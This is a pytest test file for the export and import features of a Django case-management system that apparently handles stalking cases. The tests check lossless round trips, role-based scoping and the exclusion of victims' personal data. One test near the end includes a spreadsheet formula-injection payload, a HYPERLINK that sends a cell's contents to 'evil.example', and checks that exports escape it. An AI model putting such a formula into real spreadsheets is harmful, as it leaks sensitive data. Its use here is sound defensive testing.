"""Export: the same format, lossless round trip, scoping and personal columns."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tsunagu.cases import services
from tsunagu.cases.models import Case, Event, Person
from tsunagu.core.models import AuditEvent
from tsunagu.core.spreadsheet import csv_escape, csv_unescape_row
from tsunagu.interchange import format as fmt
from tsunagu.interchange.exporter import ExportRefused, analyst_detail, export
from tsunagu.interchange.generate import generate
from tsunagu.interchange.importer import import_files
from tsunagu.testing import assert_no_markers
from tsunagu.testing.builders import OFFENDER_NAME, VICTIM_ADDRESS, VICTIM_MARKERS
from tsunagu.testing.files import CASES, CASES_HEADER, EVENTS, write_set

pytestmark = pytest.mark.django_db


def read_rows(path: Path) -> list[tuple[str, ...]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [tuple(csv_unescape_row(row)) for row in csv.reader(fh)]


def files_of(folder: Path) -> dict[str, bytes]:
    return {name: (folder / name).read_bytes() for name in ("cases.csv", "events.csv")}


def test_round_trip_of_generated_data_is_lossless(tmp_path):
    source = tmp_path / "generated"
    generate(source, years=2, seed=3, scale=0.01, personal="fictitious")
    summary = import_files(source)
    assert summary.ok, summary.errors[:3]
    export(tmp_path / "first", include_personal=True)
    # the export holds exactly the generated rows (the generator writes in its own order)
    for name in ("cases.csv", "events.csv"):
        assert set(read_rows(tmp_path / "first" / name)) == set(read_rows(source / name))
    Case.objects.all().delete()
    assert import_files(tmp_path / "first").ok
    export(tmp_path / "second", include_personal=True)
    assert files_of(tmp_path / "first") == files_of(tmp_path / "second")


def test_round_trip_keeps_system_events_and_corrections(tmp_path, make_case, officer_tokyo):
    case = make_case(officer_tokyo, ref="RT-1")
    for day, type_, detail in [
        (dt.date(2016, 5, 20), "warning", '電話で警告, "再発時は禁止命令"\n二行目'),
        (dt.date(2016, 6, 1), "treatment_advised", ""),
        (dt.date(2016, 6, 2), "advice_accepted", ""),
        (dt.date(2016, 6, 2), "consent_police_to_clinic", ""),
        (dt.date(2016, 6, 3), "referral_sent", "13-C001"),
        (dt.date(2016, 6, 4), "referral_acknowledged", ""),
        (dt.date(2016, 6, 5), "followup_planned", "2016-07-01"),
    ]:
        services.event_record(actor=officer_tokyo, case=case, date=day, type=type_, detail=detail)
    warning = case.events.get(type="warning")
    services.event_correct(actor=officer_tokyo, event=warning, reason="誤入力")
    export(tmp_path / "a", include_personal=True)
    Case.objects.all().delete()
    summary = import_files(tmp_path / "a")
    assert summary.ok, summary.errors
    export(tmp_path / "b", include_personal=True)
    assert files_of(tmp_path / "a") == files_of(tmp_path / "b")
    reimported = Case.objects.get(ref="RT-1")
    assert reimported.latest_measure == "consultation"  # the warning stays voided
    assert reimported.people.get(role="victim").address == VICTIM_ADDRESS
    assert reimported.people.get(role="offender").phone == "090-0000-0000"


detail_text = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    max_size=30,
).map(str.strip)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    events=st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=400),
            st.sampled_from(["consultation", "warning", "assistance", "followup_done"]),
            detail_text,
        ),
        max_size=12,
    ),
    ref=st.text(alphabet='ABCＸ-_0123456789あ,"', min_size=1, max_size=12).map(str.strip),
)
def test_any_free_text_survives_export_and_import(tmp_path_factory, events, ref):
    if not ref:
        return
    Case.objects.all().delete()
    folder = tmp_path_factory.mktemp("hyp")
    opened = dt.date(2016, 1, 1)
    rows = [(ref, "13", opened.isoformat(), "consultation", "")]
    rows += [(ref, "13", (opened + dt.timedelta(days=d)).isoformat(), t, x) for d, t, x in events]
    # The input is written as an export writes it (a leading apostrophe escaped).
    escaped = [tuple(csv_escape(c) for c in r) for r in rows]
    write_set(folder / "in", [(ref, "13", "", opened.isoformat(), "other")], escaped)
    summary = import_files(folder / "in")
    assert summary.ok, summary.errors
    export(folder / "a")
    Case.objects.all().delete()
    assert import_files(folder / "a").ok
    export(folder / "b")
    assert files_of(folder / "a") == files_of(folder / "b")
    assert {r[2:] for r in read_rows(folder / "a" / "events.csv")[1:]} == {r[2:] for r in rows}


def test_xlsx_export_and_import_both_ways(tmp_path):
    write_set(tmp_path / "in", CASES, EVENTS)
    import_files(tmp_path / "in")
    export(tmp_path / "csv1")
    summary = export(tmp_path / "book.xlsx", file_format="xlsx")
    assert summary.files == [tmp_path / "book.xlsx"]
    Case.objects.all().delete()
    result = import_files(tmp_path / "book.xlsx")
    assert result.ok, result.errors
    assert result.events_created == len(EVENTS)
    export(tmp_path / "csv2")
    assert files_of(tmp_path / "csv1") == files_of(tmp_path / "csv2")


def test_xlsx_with_real_date_cells_and_numeric_codes_imports(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = "cases"
    ws.append(["case_ref", "prefecture", "opened_on", "offender_age"])
    ws.append(["X-1", 1, dt.datetime(2016, 5, 10), 34.0])  # noqa: DTZ001 (a spreadsheet cell)
    ev = book.create_sheet("events")
    ev.append(["case_ref", "prefecture", "date", "type"])
    ev.append(["X-1", "01", dt.date(2016, 5, 10), "consultation"])
    book.save(tmp_path / "in.xlsx")
    summary = import_files(tmp_path / "in.xlsx")
    assert summary.ok, summary.errors
    case = Case.objects.get(ref="X-1")
    assert case.prefecture.code == "01" and case.opened_on == dt.date(2016, 5, 10)
    assert case.people.get(role="offender").age == 34


def test_csv_export_is_utf8_with_bom_and_has_no_personal_columns_by_default(
    tmp_path, make_case, officer_tokyo
):
    make_case(officer_tokyo)
    export(tmp_path)
    raw = (tmp_path / "cases.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    header = read_rows(tmp_path / "cases.csv")[0]
    assert header == fmt.PUBLIC_CASE_COLUMNS
    for name in ("cases.csv", "events.csv"):
        assert_no_markers((tmp_path / name).read_bytes(), (*VICTIM_MARKERS, OFFENDER_NAME))


def test_analyst_export_has_no_personal_columns_no_markers_no_free_text(
    tmp_path, make_case, officer_tokyo, officer_osaka, analyst
):
    case = make_case(officer_tokyo)
    make_case(officer_osaka)
    services.event_record(
        actor=officer_tokyo,
        case=case,
        date=dt.date(2016, 5, 20),
        type="warning",
        detail=f"被害者宅 {VICTIM_ADDRESS} 付近で",
    )
    services.event_record(
        actor=officer_tokyo, case=case, date=dt.date(2016, 6, 1), type="treatment_advised"
    )
    services.event_record(
        actor=officer_tokyo,
        case=case,
        date=dt.date(2016, 6, 2),
        type="advice_rejected",
        detail="blames_victim",
    )
    summary = export(tmp_path, user=analyst)
    assert summary.cases == 2  # national figures
    assert read_rows(tmp_path / "cases.csv")[0] == fmt.PUBLIC_CASE_COLUMNS
    for name in ("cases.csv", "events.csv"):
        assert_no_markers((tmp_path / name).read_bytes(), (*VICTIM_MARKERS, OFFENDER_NAME))
    events = read_rows(tmp_path / "events.csv")
    assert (case.ref, "13", "2016-06-02", "advice_rejected", "blames_victim") in events
    assert (case.ref, "13", "2016-05-20", "warning", "") in events
    with pytest.raises(ExportRefused):
        export(tmp_path / "p", user=analyst, include_personal=True)


def test_analyst_detail_keeps_codes_only():
    assert analyst_detail("appointment_scheduled", "13-C001|午後3時") == "13-C001"
    assert analyst_detail("arrest", "stalking") == "stalking"
    assert analyst_detail("consultation", "電話") == ""


def test_supervisor_export_is_their_prefecture_and_personal_only_when_asked(
    tmp_path, make_case, officer_tokyo, officer_osaka, supervisor_tokyo
):
    make_case(officer_tokyo, ref="T-1")
    make_case(officer_osaka, ref="O-1")
    summary = export(tmp_path / "a", user=supervisor_tokyo)
    assert summary.cases == 1
    assert [r[0] for r in read_rows(tmp_path / "a" / "cases.csv")[1:]] == ["T-1"]
    assert_no_markers((tmp_path / "a" / "cases.csv").read_bytes(), VICTIM_MARKERS)
    export(tmp_path / "b", user=supervisor_tokyo, include_personal=True, reason="移管のため")
    assert VICTIM_ADDRESS in (tmp_path / "b" / "cases.csv").read_text(encoding="utf-8-sig")
    audit = AuditEvent.objects.filter(action="interchange.export").first()
    assert audit is not None and audit.detail["include_personal"] and audit.reason == "移管のため"


def test_officer_and_clinician_export_nothing(tmp_path, make_case, officer_tokyo, clinician_tokyo):
    make_case(officer_tokyo)
    assert export(tmp_path / "a", user=officer_tokyo).cases == 0
    assert export(tmp_path / "b", user=clinician_tokyo).cases == 0


def test_export_query_count_does_not_grow_with_cases(
    tmp_path, make_case, officer_tokyo, django_assert_max_num_queries
):
    for i in range(12):
        make_case(officer_tokyo, ref=f"Q-{i}")
    # +2 over the export's own queries: the audit chain's head is locked and moved
    # (one of the export's per chunk reads the assessments for assessments.csv)
    with django_assert_max_num_queries(11):
        export(tmp_path / "a")
    with django_assert_max_num_queries(11):
        export(tmp_path / "b", include_personal=True)


def test_export_command_with_prefecture_and_xlsx(tmp_path, capsys):
    write_set(tmp_path / "in", CASES, EVENTS)
    import_files(tmp_path / "in")
    call_command("export", str(tmp_path / "out"), "--prefecture", "27")
    assert [r[0] for r in read_rows(tmp_path / "out" / "cases.csv")[1:]] == ["O-1"]
    call_command("export", str(tmp_path / "out.xlsx"))
    assert (tmp_path / "out.xlsx").exists()
    assert "3 cases" in capsys.readouterr().out


def test_a_case_with_several_victims_survives_the_round_trip(tmp_path, make_case, officer_tokyo):
    people = [
        services.PersonData(role="offender", name=OFFENDER_NAME, sex="male", age=40),
        services.PersonData(role="victim", name="第一 被害者", sex="female", age=30),
        services.PersonData(
            role="victim",
            name="第二 被害者",
            sex="male",
            age=31,
            address="SECOND-VICTIM-ADDRESS",
            phone="SECOND-VICTIM-PHONE",
        ),
    ]
    make_case(officer_tokyo, ref="MV-1", people=people)
    export(tmp_path / "public")
    public = (tmp_path / "public" / "cases.csv").read_text(encoding="utf-8-sig")
    assert_no_markers(
        public, ("第一 被害者", "第二 被害者", "SECOND-VICTIM-ADDRESS", OFFENDER_NAME)
    )
    assert '[{""age"":31,""sex"":""male""}]' in public
    export(tmp_path / "a", include_personal=True)
    Case.objects.all().delete()
    assert import_files(tmp_path / "a").ok
    victims = Case.objects.get(ref="MV-1").people.filter(role="victim").order_by("id")
    assert [(v.name, v.sex, v.age, v.address) for v in victims] == [
        ("第一 被害者", "female", 30, ""),
        ("第二 被害者", "male", 31, "SECOND-VICTIM-ADDRESS"),
    ]
    assert import_files(tmp_path / "a").cases_unchanged == 1  # same data: unchanged
    export(tmp_path / "b", include_personal=True)
    assert files_of(tmp_path / "a") == files_of(tmp_path / "b")


def test_a_bad_extra_victims_cell_is_a_bad_row(tmp_path):
    header = ("case_ref", "prefecture", "opened_on", "extra_victims")
    write_set(
        tmp_path,
        [
            ("A-1", "13", "2016-05-10", "not json"),
            ("A-2", "13", "2016-05-10", '[{"sex": "alien"}]'),
            ("A-3", "13", "2016-05-10", '[{"age": 200}]'),
            ("A-4", "13", "2016-05-10", '[{"sex": "female", "age": 20, "name": "x"}]'),
        ],
        [],
        cases_header=header,
    )
    summary = import_files(tmp_path)
    assert [(e.line, e.column) for e in summary.errors] == [
        (2, "extra_victims"),
        (3, "extra_victims"),
        (4, "extra_victims"),
    ]


def test_formula_text_is_escaped_in_csv_typed_text_in_xlsx_and_survives_import(tmp_path):
    from openpyxl import load_workbook

    from tsunagu.core.spreadsheet import FORMULA_START

    evil = '=HYPERLINK("http://evil.example/?"&K2,"click")'
    header = (*CASES_HEADER, "victim_name", "victim_workplace", "offender_name")
    cases = [("T-1", "13", "新宿", "2016-05-10", "other", "+81 3", evil, "@SUM(1)")]
    events = [("T-1", "13", "2016-05-10", "consultation", "-1 と 'quoted")]
    write_set(tmp_path / "in", cases, events, cases_header=header)
    assert import_files(tmp_path / "in").ok
    export(tmp_path / "a", include_personal=True)
    export(tmp_path / "book.xlsx", file_format="xlsx", include_personal=True)
    for name in ("cases.csv", "events.csv"):
        text = (tmp_path / "a" / name).read_text(encoding="utf-8-sig")
        texts = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not any(c.startswith(FORMULA_START) for c in texts)
    assert "'=HYPERLINK" in (tmp_path / "a" / "cases.csv").read_text(encoding="utf-8-sig")
    book = load_workbook(tmp_path / "book.xlsx")
    cells: list[Any] = [
        c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value
    ]
    assert evil in [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)
    for source in (tmp_path / "a", tmp_path / "book.xlsx"):
        Case.objects.all().delete()
        assert import_files(source).ok
        victim = Person.objects.get(role="victim")
        assert (victim.name, victim.workplace) == ("+81 3", evil)
        assert Person.objects.get(role="offender").name == "@SUM(1)"
        assert Event.objects.get().detail == "-1 と 'quoted"
